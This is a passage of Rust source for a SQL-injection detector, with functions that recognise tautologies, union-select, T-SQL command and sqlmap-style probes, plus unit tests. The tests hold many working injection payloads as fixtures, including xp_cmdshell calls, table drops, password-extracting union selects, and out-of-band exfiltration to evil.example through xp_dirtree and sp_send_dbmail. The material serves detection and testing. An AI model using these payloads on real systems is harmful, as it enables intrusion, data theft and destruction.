    })
}

/// Logic words before an injected condition (normalized).
const LOGIC: &[&str] = &["or", "and", "xor", "||", "&&"];

fn logic() -> &'static AhoCorasick {
    static L: OnceLock<AhoCorasick> = OnceLock::new();
    L.get_or_init(|| AhoCorasick::builder().match_kind(MatchKind::LeftmostFirst).build(LOGIC).expect("static list builds"))
}

/// A condition of literals after a logic word, in a value that starts like an injection or that
/// the condition ends: a tautology (`or 1=1`, `' or 'a'='a`, `/1234 or x=x`) or a comparison of
/// two numbers (`and 2771=1709`, the pairs of true and false probes sqlmap's boolean-based blind
/// technique sends).
pub fn literal_condition(norm: &[u8]) -> bool {
    classes::tick(norm.len());
    let alnum = |i: usize| norm.get(i).is_some_and(u8::is_ascii_alphanumeric);
    logic().find_iter(norm).any(|m| {
        let word = norm[m.start()].is_ascii_alphabetic();
        if word && ((m.start() > 0 && alnum(m.start() - 1)) || alnum(m.end())) {
            return false;
        }
        let mut i = past(norm, m.end(), |b| matches!(b, b' ' | b'('));
        let Some((a, end)) = operand(norm, i) else { return false };
        i = past(norm, end, |b| b == b' ');
        // `like '%'` matches every row, as `=` between equals does.
        let like = norm[i..].starts_with(b"like ");
        if like {
            i += 4;
        } else if norm.get(i) != Some(&b'=') || norm.get(i + 1) == Some(&b'=') {
            return false;
        }
        i = past(norm, i + 1, |b| b == b' ');
        let tautology = |b: &[u8]| if like { !b.is_empty() && b.iter().all(|&c| c == b'%') } else { (a == b && !a.is_empty()) || (classes::digits(a) && classes::digits(b)) };
        // A condition counts where an injection puts it: the value starts like one, or the
        // condition ends it ("size 9 or 10=43 EU" and "… OR 1=1 safely?" are neither).
        let ends = |end: usize| norm[end.min(norm.len())..].iter().find(|&&b| b != b' ').is_none_or(|&b| matches!(b, b')' | b'-' | b'#' | b';' | b'\'' | b'"' | b'/'));
        operand(norm, i).is_some_and(|(b, end)| tautology(b) && (starts_like_injection(norm) || ends(end)))
    })
}

/// A value that starts an SQL statement and ends it into a comment (`drop table t;--`,
/// `delete from users; #`), starts with `union select`, or is a T-SQL command or wait
/// (`exec master..xp_cmdshell 'dir'`, `waitfor delay '0:0:5'`): fragments injected into a
/// query's middle, which no form text starts with.
pub fn statement_fragment(norm: &[u8]) -> bool {
    let s = norm.trim_ascii();
    let union = s.strip_prefix(b"union ").is_some_and(|r| {
        let r = r.strip_prefix(b"all ").or_else(|| r.strip_prefix(b"distinct ")).unwrap_or(r);
        r.strip_prefix(b"select").is_some_and(|r| !r.first().is_some_and(u8::is_ascii_alphanumeric))
    });
    let statement = statement_at(s, 0);
    union
        || tsql_command(s)
        || (statement
            && s.iter().rposition(|&b| b == b';').is_some_and(|i| {
                let rest = s[i + 1..].trim_ascii_start();
                rest.starts_with(b"--") || rest.starts_with(b"#") || rest.starts_with(b"/*")
            }))
}

/// The whole value is one T-SQL command and its arguments, which no question or title is: an
/// `exec`/`execute` of a system procedure (`xp_…`, `sp_…`, or any in `master`, also bracketed or
/// with its schema: `exec [master]..xp_cmdshell 'dir'`, `exec sys.xp_dirtree '\\evil\a'`), or a
/// `waitfor delay`/`time` (also after a number: `1 waitfor delay '0:0:5'`), each followed only by
/// literals, variables and commas, then maybe `;` and a comment. `Exec (Sales), London` and
/// "EXEC sp_who2 'active' returns nothing, why?" go on past their arguments.
fn tsql_command(s: &[u8]) -> bool {
    let word = |s: &[u8], w: &[u8]| classes::starts_word(s, 0, w);
    // T-SQL runs a second statement after a number with no `;` (`1 exec xp_cmdshell 'dir'`).
    let digits = s.iter().take(20).take_while(|b| b.is_ascii_digit()).count();
    let after = s[digits..].trim_ascii_start();
    let s = if digits > 0 && after.len() < s.len() - digits { after } else { s };
    let rest = if let Some(r) = [&b"execute"[..], b"exec"].iter().find(|w| word(s, w)).map(|w| &s[w.len()..]) {
        let r = r.trim_ascii_start();
        let name_len = r.iter().take(128).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'[' | b']' | b'"')).count();
        let name: Vec<u8> = r[..name_len].iter().copied().filter(|b| !matches!(b, b'[' | b']' | b'"')).collect();
        let last = name.rsplit(|&b| b == b'.').next().unwrap_or(&[]);
        let dots = name.iter().filter(|&&b| b == b'.').count();
        if !(last.starts_with(b"xp_") || last.starts_with(b"sp_") || (name.starts_with(b"master.") && dots >= 2 && !last.is_empty())) {
            return false;
        }
        // One bare or bracketed word is an argument too (`exec xp_cmdshell whoami`); more are a
        // sentence.
        let rest = &r[name_len..];
        let bare = rest.trim_ascii().iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'[' | b']'));
        if bare {
            return true;
        }
        rest
    } else {
        if !word(s, b"waitfor") {
            return false;
        }
        let r = s[7..].trim_ascii_start();
        let Some(r) = [&b"delay"[..], b"time"].iter().find(|k| word(r, k)).map(|k| r[k.len()..].trim_ascii_start()) else { return false };
        let q = r.first().copied().filter(|&q| q == b'\'' || q == b'"');
        let n = q.map_or(0, |_| r[1..].iter().take(16).take_while(|b| b.is_ascii_digit() || matches!(b, b':' | b'.')).count());
        if n == 0 || r.get(n + 1).copied() != q {
            return false;
        }
        &r[n + 2..]
    };
    arguments_then_end(rest)
}

/// Whether `s` is only literals (`'…'` with `''` inside, `n'…'`, numbers), variables (`@a`,
/// `@a = 1`) and commas between blanks, then maybe `;` and a comment.
fn arguments_then_end(mut s: &[u8]) -> bool {
    for _ in 0..64 {
        s = s.trim_ascii_start();
        match s.first() {
            None => return true,
            Some(b';') => {
                let t = s[1..].trim_ascii_start();
                return t.is_empty() || t.starts_with(b"--") || t.starts_with(b"#") || t.starts_with(b"/*");
            }
            Some(b'-') if s.starts_with(b"--") => return true,
            Some(b',' | b'=') => s = &s[1..],
            Some(b'\'' | b'"' | b'n') if s.starts_with(b"'") || s.starts_with(b"\"") || s.starts_with(b"n'") => {
                let mut i = if s[0] == b'n' { 2 } else { 1 };
                let q = s[i - 1];
                loop {
                    match s[i..].iter().position(|&b| b == q) {
                        Some(k) if s.get(i + k + 1) == Some(&q) => i += k + 2,
                        Some(k) => break s = &s[i + k + 1..],
                        None => return false,
                    }
                }
            }
            Some(&b) if b == b'@' || b.is_ascii_digit() || b == b'-' => {
                let n = 1 + s[1..].iter().take(64).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')).count();
                s = &s[n..];
            }
            _ => return false,
        }
    }
    false
}

/// `union [all|distinct] select <list>` anywhere in the value, where the list reads as SQL's (see
/// [`select_list`]): an injection into a name or a number need not start the value (`id union
/// select version(),2`, `x union (select id from users limit 1,1)`, MySQL's `1e0union select 2`).
/// A value with a query of its own before the `union`, a `select` that reads `from` a table, is a
/// whole query (`(select a from b) union …`, `explain select …`, a log line): a question about
/// SQL. An injection's own selects before its union read from nothing (`and (select 1) union
/// …`): the app's query is what it extends.
pub fn union_select(norm: &[u8]) -> bool {
    classes::tick(norm.len());
    let open = |b: u8| b.is_ascii_whitespace() || b == b'(';
    let whole_query = |at: usize| memchr::memmem::rfind(&norm[..at], b"select").is_some_and(|k| classes::contains(&norm[k..at], b" from "));
    memchr::memmem::find_iter(norm, b"union")
        .filter_map(|at| {
            // Cheap tests first: a word `union`, then `select` after it.
            if at > 0 && (norm[at - 1].is_ascii_alphabetic() || norm[at - 1] == b'_') {
                return None;
            }
            let mut j = past_all(norm, at + 5, open);
            if j == at + 5 {
                return None;
            }
            for w in [&b"all"[..], b"distinctrow", b"distinct"] {
                if classes::starts_word(norm, j, w) {
                    j = past_all(norm, j + w.len(), open);
                }
            }
            classes::starts_word(norm, j, b"select").then_some((at, j))
        })
        .take(8)
        .any(|(at, j)| !whole_query(at) && select_list(norm, j + 6))
}

/// Where the run of `set` that starts `s[i..]` ends (at most 64 bytes).
fn past_all(s: &[u8], i: usize, set: impl Fn(u8) -> bool) -> usize {
    i + s[i.min(s.len())..].iter().take(64).take_while(|&&b| set(b)).count()
}


/// What may follow a select list, or the table it reads from.
const AFTER_LIST: &[&[u8]] = &[
    b"from", b"--", b"#", b"/*", b";", b")", b"limit", b"into", b"union", b"where", b"order", b"group", b"procedure", b"join",
    b"having", b"for ", b"lock ", b"except", b"intersect", b"minus", b"offset",
];

/// Whether `s[i..]` (after `select`) is a select list as an injection writes one: items (numbers,
/// `null`, strings, variables, names, calls) joined by commas, then the value's end, a clause or a
/// comment; two items or more, or one read `from` a table, or one number, `null`, string or call
/// that ends the value. Prose after "union (select" goes on in words ("3 accounts max", "1 or
/// more", "*any* two").
fn select_list(s: &[u8], i: usize) -> bool {
    let blank = |b: u8| b.is_ascii_whitespace();
    let mut j = past_all(s, i, blank);
    for w in [&b"distinctrow"[..], b"distinct", b"all"] {
        if classes::starts_word(s, j, w) {
            j = past_all(s, j + w.len(), blank);
        }
    }
    // A call's arguments or a subquery, up to the matching parenthesis (or 128 bytes).
    let group = |j: usize| {
        let mut depth = 0;
        let close = s[j..].iter().take(128).position(|&b| {
            depth += i32::from(b == b'(') - i32::from(b == b')');
            depth == 0
        });
        close.map_or(s.len().min(j + 128), |k| j + k + 1)
    };
    let (mut items, mut literal, mut literals) = (0, false, 0);
    for _ in 0..64 {
        let start = j;
        match s.get(j) {
            Some(&q @ (b'\'' | b'"')) => j = memchr::memchr(q, &s[j + 1..]).map_or(s.len(), |k| j + 2 + k),
            // A subquery as an item: `union select (select group_concat(password) from users),2`.
            Some(b'(') if classes::starts_word(s, past_all(s, j + 1, blank), b"select") => j = group(j),
            _ => {
                j = past_all(s, j, |b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'@' | b'$' | b'`' | b'*' | b'-' | b'+' | b'~' | b'\''));
                // A comment ends the item (`3-- -`).
                if let Some(k) = classes::find(&s[start..j], b"--") {
                    j = start + k;
                }
                if j > start && s.get(j) == Some(&b'(') {
                    j = group(j);
                }
            }
        }
        if j == start {
            break;
        }
        let item = &s[start..j];
        literal = matches!(item[0], b'0'..=b'9' | b'\'' | b'"' | b'@' | b'-') || item == b"null" || item.ends_with(b")");
        literals += usize::from(literal);
        items += 1;
        j = past_all(s, j, blank);
        if s.get(j) != Some(&b',') {
            break;
        }
        j = past_all(s, j + 1, blank);
    }
    let rest = &s[j.min(s.len())..];
    if items == 0 || !(rest.is_empty() || AFTER_LIST.iter().any(|w| rest.starts_with(w))) {
        return false;
    }
    if classes::starts_word(s, j, b"from") {
        // One table, maybe quoted or in parentheses; then a clause or the end.
        let t = past_all(s, j + 4, |b| blank(b) || b == b'(');
        let name = past_all(s, t, |b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'`' | b'$'));
        let mut k = past_all(s, name, |b| blank(b) || b == b')');
        if classes::starts_word(s, k, b"as") {
            k = past_all(s, k + 2, blank);
        }
        let alias = past_all(s, k, |b| b.is_ascii_alphabetic() || b == b'_');
        // An alias only after a list an injection writes ("select account from the list").
        if alias > k && (items >= 2 || literal) && !AFTER_LIST.iter().any(|w| s[k..].starts_with(w)) {
            k = past_all(s, alias, blank);
        }
        let tail = &s[k.min(s.len())..];
        return name > t && s[t].is_ascii_alphabetic() | matches!(s[t], b'_' | b'`') && (tail.is_empty() || tail.starts_with(b",") || AFTER_LIST.iter().any(|w| tail.starts_with(w)));
    }
    // Names alone are prose's lists ("union select a, b; the rest"); a statement's end is the
    // value's, a comment's or another statement's.
    let ends = rest.is_empty() || [&b"--"[..], b"#", b"/*"].iter().any(|w| rest.starts_with(w)) || rest.starts_with(b";") && {
        let after = rest[1..].trim_ascii_start();
        after.is_empty() || [&b"--"[..], b"#", b"/*"].iter().any(|w| after.starts_with(w)) || statement_at(rest, 1)
    };
    (items >= 2 && literals > 0 && (ends || !rest.starts_with(b";"))) || (literal && ends)
}

/// Operators MySQL applies to two strings, spelled as words or as logic symbols: `x' or 'y`
/// turns `WHERE pass = '…'` into a comparison of comparisons that is true.
const IMPLICIT_OPS: &[&[u8]] = &[
    b"<=>", b"&&", b"||", b"div", b"mod", b"and", b"or", b"xor", b"like", b"rlike", b"regexp", b"not like", b"not rlike",
    b"not regexp", b"sounds like",
];

/// The whole value is a parameter's value with a run of both kinds of quote and more opened
/// parentheses than closed appended (`1¿'"(`, wapiti's), or sqlmap's heuristic check: ten of `'"(),.` in
/// random order with one quote of each kind (`1),(")',,.(`): what a scanner sends to make the
/// query fail and read the error. Text and code close what they open, and put blanks or quotes
/// before such a run.
pub fn error_probe(norm: &[u8]) -> bool {
    let s = norm.trim_ascii();
    let run = s.iter().rev().take(32).take_while(|&&b| matches!(b, b'\'' | b'"' | b'(' | b')' | b',' | b'.' | b'\\')).count();
    let (head, tail) = s.split_at(s.len() - run);
    let count = |c: u8| tail.iter().filter(|&&b| b == c).count();
    // sqlmap's ten characters follow any value, a search's blanks too.
    let sqlmap = run >= 6 && count(b'\'') == 1 && count(b'"') == 1;
    run >= 3
        && head.len() <= 64
        && !head.iter().any(|&b| matches!(b, b'\'' | b'"' | b'(' | b')') || (!sqlmap && matches!(b, b' ' | b'\t')))
        && count(b'\'') > 0
        && count(b'"') > 0
        && (count(b'(') > count(b')') || sqlmap)
}

/// The whole value ends the app's string and goes on with a list of literals (`', 2, 1`,
/// `'', '', 13`): an injection into an `insert … values` list or a select list that adds
/// columns. Only with SQL's own quote: a CSV row starts `"",`.
pub fn literal_list(norm: &[u8]) -> bool {
    // What closes the app's statement after the list: `)`, `;`, a comment (`', 2, 1);--`).
    let s = norm.trim_ascii();
    let s = classes::find(s, b"--").or_else(|| s.iter().position(|&b| b == b'#')).map_or(s, |k| &s[..k]);
    let s = s.trim_ascii_end();
    let s = s.strip_suffix(b";").unwrap_or(s).trim_ascii_end();
    let s = s.strip_suffix(b")").unwrap_or(s);
    let mut items = s.split(|&b| b == b',').map(<[u8]>::trim_ascii);
    let literal = |t: &[u8]| {
        classes::digits(t)
            || t == b"null"
            || (t.len() >= 2 && t[0] == b'\'' && t[t.len() - 1] == b'\'' && !t[1..t.len() - 1].contains(&b'\''))
    };
    matches!(items.next(), Some(b"'" | b"''")) && {
        let mut n = 0;
        items.all(|t| {
            n += 1;
            n <= 64 && literal(t)
        }) && n >= 2
    }
}

/// The whole value is a string comparison MySQL converts implicitly: a quote ends the app's
/// string after at most one word, then a word or logic operator between blanks, then a quote
/// opens the next string before at most one word (`x' or 'y`, `a' div 'b`). The same with a
/// symbol (`x'-'y`, `x'='y`, `' - '`) works as well, but is what format patterns and settings
/// hold (`yyyy'-'MM`, `00000"-"0000`, `key'='value`, separators like `" | "`); prose quotes words
/// between others. Two numbers compared that way, the second string left for the app's query
/// to close (`'1001'='10`), are a boolean probe: formats put words or dashes there.
pub fn implicit_conversion(norm: &[u8]) -> bool {
    let s = norm.trim_ascii();
    let quote = |b: &u8| matches!(b, b'\'' | b'"');
    if let Some((q, rest)) = s.split_first().filter(|(q, _)| quote(q)) {
        if let Some((number, tail)) = rest.iter().position(|b| b == q).map(|k| rest.split_at(k)) {
            if classes::digits(number) && tail.get(1) == Some(&b'=') && tail.get(2) == Some(q) && classes::digits(&tail[3..]) {
                return true;
            }
        }
    }
    let word = |t: &[u8]| !t.iter().any(|b| b.is_ascii_whitespace() || quote(b));
    let (Some(a), Some(b)) = (s.iter().position(quote), s.iter().rposition(quote)) else { return false };
    if b <= a + 1 || s[a] != s[b] || !word(&s[..a]) || !word(&s[b + 1..]) {
        return false;
    }
    let inner = &s[a + 1..b];
    let spaced = inner.first().is_some_and(u8::is_ascii_whitespace) && inner.last().is_some_and(u8::is_ascii_whitespace);
    spaced && IMPLICIT_OPS.contains(&inner.trim_ascii())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// From libinjection's own samples (its `data/` folder): injections into a name or a number
    /// that do not start the value, and MySQL's implicit string comparisons; next to prose, code
    /// and the benign lines the same material held that read alike.
    #[test]
    fn union_select_anywhere_and_implicit_comparisons() {
        for s in [
            "xxx union (select id from users limit 1,1)",
            "1e0union select 2",
            "binary -1 union select table_name from information_schema.tables",
            "if(1, 1, 2) union select 3",
            "x union all select null,null--",
            "sin(1) group by 1 union select 1--",
            "id union select version(),2",
            "id union select current_user,2",
            "id union select password,2 from users u",
            "id union select name,password from`users`",
            "id union select name,password from(users)",
            "id union distinct select name,password from users",
            "id union select distinctrow name,password from users",
            "id union select x'41',2",
            "id union select -1,password from users",
            "-1 union distinctrow select 1,2",
            "id union select ~0,2",
            "id union select name,2 from users as u",
            "id union select pass,1 from users having 1",
            "id union select pass,1 from users for update",
            "id union select pass,1 from users lock in share mode",
            "id union select pass,1 from users except select 1,1",
            "id and (select 1) union select name,pass from users",
            "(select 0) union select name,pass from users",
            "-1 reunion reunion reunion reunion reunion reunion reunion reunion  union select name,pass from users",
            "products union select (select group_concat(password) from users),2,3-- -",
        ] {
            assert!(union_select(s.as_bytes()), "{s}");
        }
        for s in [
            "credit union (select account from the list)",
            "our credit union (select 3 accounts max) charges no fees",
            "join the union (select 1 or more plans below)",
            "our union (select 3) has 40 members",
            "the student union select \"teacher of the year\" each spring.",
            "notes on the student union select committee from 2019, see attached",
            "fees: credit union (select *any* two accounts)",
            "union(select *)",
            "union (select 'yes' if applicable)",
            "why is union all select * from t2 slower than union?",
            "select name from customers union select name from suppliers;",
            "(select id, name from a) union (select id, name from b)",
            "with t as (select 1) select a, b from t union select a, b from u",
            "explain select a, b from x union select a, b from y",
            "2024-05-01 12:00:01 debug [sql] select id, name from users union select id, name from admins",
            "our union select a, b; the rest",
            "student union select (a, b)",
            "student union select (select your team) tomorrow",
            "the union selected (a chair)",
            "reunion select 1",
            "union select",
        ] {
            assert!(!union_select(s.as_bytes()), "{s}");
        }
        for s in ["a' or 'b", "' or '", "x' div 'y", "a' not like 'b", "a\" || \"b", "'1001'='10", "\"3085\"=\"30"] {
            assert!(implicit_conversion(s.as_bytes()), "{s}");
        }
        for s in ["' - '", "\" | \"", "' = '", "'='", "key' = 'value", "yyyy'-'mm", "00000\"-\"0000", "mon'-'fri", "key'='value", "return '-'", "\"*\"", "small \"&\" sign", "i 'like' it", "tom 'and' jerry", "it's = 'ok'", "a' or 'b and more", "'a' = 'b'", "'12'='12'", "'1'=\"1", "'10'-'20", "'1001'='10 cm"] {
            assert!(!implicit_conversion(s.as_bytes()), "{s}");
        }
    }

    /// sqlmap's boolean and error probes (its tamper scripts' output) compare two numbers where a
    /// condition goes; code and spreadsheets compare names there.
    #[test]
    fn literal_probes_are_numbers_compared_in_sql_conditions() {
        for s in ["(case when (8718=4315) then !sleep(5) else 9032 end)", "1 ;iif(1214 like 5153,1,1/0)", "elt(2095=9122,5424)", "-8837 ') or case when 6830 rlike 4797 then 1590", "if(1=2,sleep(5),0)"] {
            assert!(literal_probe(s.as_bytes(), true), "{s}");
        }
        for s in [
            "elt (binary 5771=binary 8934,1)",
            "(case when binary 8855=binary 1302 then 5148 else binary null end)",
            "(case when (8718>=4315) then sleep(1) else 9032 end)",
            "(case when (8718=8718.0) then sleep(1) else 9032 end)",
            "(case when 8718 in(8718) then 1 end)",
            "(case when 8718 between 1 and 9999 then 1 end)",
            "(case when 0x22=0x22 then 1 end)",
            "(case when (8718)=8718 then 1 end)",
            "(case when 8718=-8718 then 1 end)",
            "1 ;iif(1214 not like 5153,1,1/0)",
            "1 ;iif(1214=(5153),1,1/0)",
            "1 and (case  when 1=1 then 1 else 0 end)",
        ] {
            assert!(literal_probe(s.as_bytes(), true), "{s}");
        }
        for s in ["if (x == 1) {", "case when status = 'x' then 1 end", "=if(a1=2,\"yes\",\"no\")", "verify(1=1)", "when 3 = 3, done", "when 1 < 2 then the answer", "elt(a=b,1)", "whenever (1=2) then", "shelf(1=2,3)"] {
            assert!(!literal_probe(s.as_bytes(), true), "{s}");
        }
    }

    /// `form` holds every value of `yes` and none of `no`.
    fn reads(form: fn(&[u8]) -> bool, yes: &[&str], no: &[&str]) {
        for s in yes {
            assert!(form(s.as_bytes()), "{s}");
        }
        for s in no {
            assert!(!form(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn literal_lists_after_a_closed_string() {
        reads(literal_list, &["', 2, 1", "'', '', '', '', '', '', '', '', 13", "',null,null", "', 'a', 3", "', 2, 1);--", "', 2, 1)#"], &["', 2", "\"\", 1, 2", "'', 'a' and 'b', 3", "', 2, 1 apples", "1, 2, 3", "'s, 2, 1", "',,"]);
    }

    #[test]
    fn error_probes_append_both_quotes_and_an_opened_parenthesis() {
        reads(error_probe, &["1\u{bf}'\"(", "'\"(", "42'.((,.,)\"'", "admin\"'(", "1.,)..(\".)'", "1))))\")',.(", "1),(\")',,.(", "1'\")),.(.,", "john smith),(\")',,.("], &["abusive.')\"", "x.replace(\"'\",'\"')", "it's \"(", "say '\"(", "''", "1'\"", "(\"')"]);
    }

    /// Spreadsheets compare numbers in `IF` and `IIF` too: those count only past the gate.
    #[test]
    fn spreadsheet_formulas_are_no_probe_on_their_own() {
        for s in ["=if(1>=2,\"yes\",\"no\")", "=iif(1=1,\"a\",\"b\")", "=sum(if(1>0,a1:a10,0))", "a = if(1=1,2,3);"] {
            assert!(!literal_probe(s.as_bytes(), false), "{s}");
        }
        assert!(literal_probe(b"elt(2095=9122,5424)", false));
    }

    #[test]
    fn evidence_needs_sql_words_or_marks() {
        assert!(has_evidence(b"1 union select 2"));
        assert!(has_evidence(b"admin'--"));
        assert!(!has_evidence(b"o'brien"));
        assert!(!has_evidence(b"qu'est-ce que c'est"));
        assert!(!has_evidence(b"mozilla/5.0 (khtml, like gecko) and more"));
        assert!(has_evidence(b"1 or 1=1"));
        assert!(has_evidence(b"x and (select 1)"));
    }

    #[test]
    fn breakouts_follow_the_quote() {
        let s = b"x' or 1=1";
        assert!(breaks_out(s, 1));
        assert!(breaks_out(b"1')--", 1));
        assert!(breaks_out(b"a';drop", 1));
        assert!(breaks_out(b"x'::text or 2>1--", 1));
        assert!(breaks_out(b"x'-1 or 2>1-- ", 1));
        assert!(!breaks_out(b"x'-1 and the rest", 1));
        assert!(!breaks_out(b"rock'-n-roll and more", 4));
        assert!(!breaks_out(b"can't stop", 3));
        assert!(!breaks_out(b"the boys' orange", 8));
        assert!(!breaks_out(b"\"This\" is what", 5));
        assert!(!breaks_out(b"'hi'; she said", 3));
        assert!(!breaks_out(b"it's' and the", 4));
        assert!(breaks_out(b"x' and sleep(5)", 1));
        assert!(breaks_out(b"x' union all select", 1));
        assert!(breaks_out(b"x'; drop table t", 1));
        assert!(breaks_out(b"x') order by 3--", 1));
        assert!(breaks_out(b"x'||(select 1)||'", 1));
        assert!(breaks_out(b"x'+char(65)+'", 1));
        assert!(!breaks_out(b".--'''\n\t\t | |", 3));
    }

    #[test]
    fn artifacts_need_a_breakout_character() {
        assert!(artifact(b"'; exec master..xp_cmdshell 'dir'"));
        assert!(artifact(b"1 and pg_sleep(5)--"));
        assert!(!artifact(b"what is information_schema. used for"));
    }

    #[test]
    fn a_delay_in_a_subquery_or_a_branch_is_sql_wherever() {
        for t in [
            "if(1=1,sleep(5),0)",
            "name,(select sleep(5))",
            "(select(sleep(10)))a",
            "if(now()=sysdate(),sleep(6),0)",
            "1 declare @x char(9) set @x=0x303a303a35 waitfor delay @x--",
            "begin if (1=1) then dbms_lock.sleep(5); else dbms_lock.sleep(0); end if; end;",
            "if (1=1,sleep(5),0)",
            "make_set(1=1,sleep(5))",
        ] {
            assert!(delay_in_query(t.as_bytes()), "{t}");
        }
        for t in [
            "i need sleep(8) tonight",
            "if (x) { sleep(5) }",
            "await sleep(500)",
            "time.sleep(5)",
            "i ran select sleep(10) to test the timeout",
            "await pool.query(\"select sleep(10)\")",
            "my query: select name, (select sleep(1)) from t is slow, why?",
            "we use if(a,sleep(1),0) in a report",
        ] {
            assert!(!delay_in_query(t.as_bytes()), "{t}");
        }
    }

    #[test]
    fn a_comment_after_a_closed_name_truncates_the_query() {
        for t in ["admin'--", "admin'-- -", "admin'#", "admin' -- ", "admin\" -- -", "admin')-- -", "admin'/*", "1'#1", "admin';--"] {
            assert!(comment_truncation(t.as_bytes()), "{t}");
        }
        for t in ["ab'#cd9", "it's -- great", "'--", "o'neil", "rock 'n' roll -- yes", "ue@nu1&<s>a@:*^\"#"] {
            assert!(!comment_truncation(t.as_bytes()), "{t}");
        }
    }

    #[test]
    fn hints_are_what_a_waf_stops_and_text_rarely_holds() {
        for t in [
            &b"sleep(5)#1"[..],
            b"benchmark(10000000,md5(1))#1",
            b"/sleep(20)",
            b"select load_file(",
            b"from `information_schema`.tables limit",
            b") as executethesesqlcommands from",
            b"` as `edit_user_id` from",
            b"' (select top 1",
            b"what is information_schema.tables",
        ] {
            assert!(hint(t).0, "{}", String::from_utf8_lossy(t));
        }
        for t in [&b"sleep(5)#1"[..], b"benchmark(10000000,md5(1))#1", b"select load_file(", b") as total from", b"exec xp_cmdshell"] {
            assert_eq!(hint(t), (true, true), "{}", String::from_utf8_lossy(t));
        }
        for t in [&b"sleep(8 hours) then gym"[..], b"benchmark(1).xlsx", b"sleep(7), water(2l), steps(9000)", b"multipoint((10 40), (40 30))", b"char(10)", b"concat('a','b') returns null", b"cast('2024-01-01' as date)", b"x (select top 1 id from t)"] {
            assert!(!hint(t).1, "{}", String::from_utf8_lossy(t));
        }
        let pasted = b"the export fails here:\nyield('analyze \"sqlite_master\";')\nelif table_name.startswith('sqlite_'):";
        for t in [&b"time.sleep(5)"[..], pasted, b"sleep(ish) schedule is fine", b"database(s): production", b"concat(first, last) returns null", b"i need sleep (5 hours)", b"I paid (twice) as much from my card", b"the user's version", b"select your size"] {
            assert!(!hint(t).0, "{}", String::from_utf8_lossy(t));
        }
        assert_eq!(nosql_operator(b"u_id[$ne]"), (false, true));
        assert_eq!(nosql_operator(b"filters[price][$gt]"), (false, true));
        for t in [&b"filters[user][id][$eq]"[..], b"filters[pinned][$eq]", b"pinned[$ne]", b"shipping[$in]", b"pincode[$eq]", b"shipping[$type]", b"filters[token][$in]", b"filters[pass][$in]"] {
            assert_eq!(nosql_operator(t), (false, true), "{}", String::from_utf8_lossy(t));
        }
        let decoys: Vec<u8> = (0..8).flat_map(|i| format!("f{i}[$eq]=1&").into_bytes()).chain(b"password[$ne]=1".iter().copied()).collect();
        for t in [&b"password[$ne]"[..], b"q[$where]", b"user[password][$regex]", b"user.new_password[$lt]", b"password[$type]", b"password[$not][$eq]", &decoys] {
            assert_eq!(nosql_operator(t), (true, true), "{}", String::from_utf8_lossy(t));
        }
        for t in [&b"$where"[..], b"filter[password][$exists]", b"client_secret[$eq]", b"otp[$in]"] {
            assert_eq!(nosql_operator(t), (false, true), "{}", String::from_utf8_lossy(t));
        }
        assert_eq!(nosql_operator(b"price[$]=5"), (false, false));
        assert_eq!(nosql_operator(b"a[$never]"), (false, false));
    }

    #[test]
    fn injections_start_unlike_prose() {
        assert!(starts_like_injection(b"1 or 1=1"));
        assert!(starts_like_injection(b"and 1=1--"));
        assert!(starts_like_injection(b"union select 1"));
        assert!(!starts_like_injection(b"and he climbed with the lad"));
        assert!(!starts_like_injection(b"or else (he said)"));
        assert!(!starts_like_injection(b"orders ship monday"));
    }

    #[test]
    fn literal_conditions() {
        for s in [&b"or 1=1--"[..], b"' or 'a'='a", b"and 0 = 0 #", b"/1234 or 1=1", b"and 2771=1709)", b"or (7319=8742)", b"x') or ('a'='a", b"1 || 1=1"] {
            assert!(literal_condition(s), "{}", String::from_utf8_lossy(s));
        }
        // An unterminated quote as the first operand ends the value (this read past it once).
        assert!(!literal_condition(b"or 'x") && !literal_condition(b"or \"update") && !literal_condition(b"and 'a"));
        for s in [&b"order 1=1"[..], b"or else", b"color=red and size=m", b"a==1 || b==1", b"x or y=z", b"for 2=2", b"pay=and", b"shoe size uk 9 or 10=43 eu"] {
            assert!(!literal_condition(s), "{}", String::from_utf8_lossy(s));
        }
    }

    #[test]
    fn stacked_statements_and_fragments() {
        assert!(stacks_statement(b"x';select * from t", 1) && stacks_statement(b"1'); drop table t", 2) && stacks_statement(b"a'; update users set x=1", 1));
        assert!(!stacks_statement(b"it's; selected", 2) && !stacks_statement(b"'a'; update", 2) && !stacks_statement(b"x'; dropping", 1));
        assert!(!stacks_statement(b"name to \"jo\"; update the invoice too", 11) && !stacks_statement(b"kind 'lena'; alter 7 jahre", 10));
        assert!(statement_fragment(b"drop table users;--") && statement_fragment(b"union select") && statement_fragment(b" union all select 1"));
        assert!(statement_fragment(b"delete from users; #") && statement_fragment(b"shutdown;--"));
        reads(
            tsql_command,
            &[
                "exec master..xp_cmdshell 'dir'",
                "waitfor delay '0:0:5'",
                "execute master..xp_cmdshell 'dir';--",
                "exec [master]..xp_cmdshell 'dir'",
                "exec \"master\"..xp_cmdshell 'dir'",
                "exec sys.xp_dirtree '\\\\evil.example\\a'",
                "exec msdb.dbo.sp_send_dbmail @recipients='a@evil.example', @body = n'x'",
                "1 waitfor delay '0:0:5'",
                "exec sp_who2",
                "1 exec master..xp_dirtree '\\\\evil.example\\a'",
                "exec xp_cmdshell whoami",
                "exec master..xp_cmdshell [whoami]",
                "exec xp_cmdshell 0x646972",
                "exec xp_cmdshell \"dir\"",
                "1 waitfor delay \"0:0:5\"",
            ],
            &[
                "exec summary attached",
                "exec master.pdf",
                "waitfor it",
                "exec(open(f).read(), vars)",
                "exec (sales), london",
                "exec @ mcdonald's",
                "exec (1).docx",
                "exec sp_who2 'active' returns nothing for me, why?",
                "exec sp_helptext 'dbo.myproc' - how do i see the full text?",
                "waitfor delay '00:00:10' doesn't seem to wait in my job, any ideas?",
                "exec sp_executesql @sql\n\nwhy does this fail with error 214? thanks",
                "exec sp_who2 active returns nothing for me",
            ],
        );
        assert!(number_stacks_statement(b"1;select 1") && number_stacks_statement(b"5); drop table t"));
        assert!(!number_stacks_statement(b"5; select the blue one") && !number_stacks_statement(b"size 5; select 1"));
        assert!(!statement_fragment(b"drop me a line; thanks") && !statement_fragment(b"union selection committee") && !statement_fragment(b"delete my account please"));
